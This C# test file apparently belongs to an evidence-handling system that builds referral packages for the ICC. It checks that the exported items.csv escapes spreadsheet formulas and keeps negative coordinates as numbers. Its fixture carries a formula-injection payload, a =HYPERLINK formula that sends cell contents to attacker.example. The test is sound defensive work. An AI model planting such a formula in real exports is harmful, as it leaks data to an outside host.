using Evidence.Cases;
using Evidence.Domain;
using Evidence.Ingest;
using Evidence.Metadata;
using Evidence.Referrals;
using Evidence.Tagging;
using Evidence.Tests.Fixtures;

namespace Evidence.Tests.Referrals;

/// <summary>
/// items.csv is opened in a spreadsheet by the prosecutor: a stated text that a spreadsheet would run as a formula is shown
/// as text, and a number stays a number (southern and western coordinates are negative).
/// </summary>
public sealed class PackageCsvTests : IAsyncLifetime
{
    private Slice slice = null!;

    public async Task InitializeAsync() => slice = await Slice.StartAsync();

    public async Task DisposeAsync() => await slice.DisposeAsync();

    [Fact]
    public async Task FormulaTextIsDefused_NegativeCoordinatesStayNumbers()
    {
        var incident = await slice.SendAsync(new CreateIncident("Transfer", IncidentKind.Deportation, "2022-10", "Kherson", ["8(2)(a)(vii)-1"]));
        var item = await slice.SendAsync(new IngestEvidence(slice.File("w.txt", "statement"u8.ToArray()), "Olena K.", Metadata: new StatedMetadata
        {
            Place = "=HYPERLINK(\"https://attacker.example/?\"&A1,\"open\")",
            Device = "@SUM(1+1)",
            Coordinates = "-33.45,-70.66",
        }));
        await slice.SendAsync(new TagEvidence(item.Id, incident));

        var package = await slice.SendAsync(new BuildReferralPackage(incident, RecipientKind.Icc, Path.Combine(slice.Home, "p.zip")));
        using var zip = System.IO.Compression.ZipFile.OpenRead(package.Path);
        using var reader = new StreamReader(zip.Entries.Single(e => e.FullName.EndsWith("data/metadata/items.csv", StringComparison.Ordinal)).Open());
        var csv = reader.ReadToEnd();

        Assert.Contains("\"'=HYPERLINK(", csv, StringComparison.Ordinal);
        Assert.Contains(",'@SUM(1+1),", csv, StringComparison.Ordinal);
        Assert.Contains(",-33.45,-70.66,", csv, StringComparison.Ordinal);
    }
}
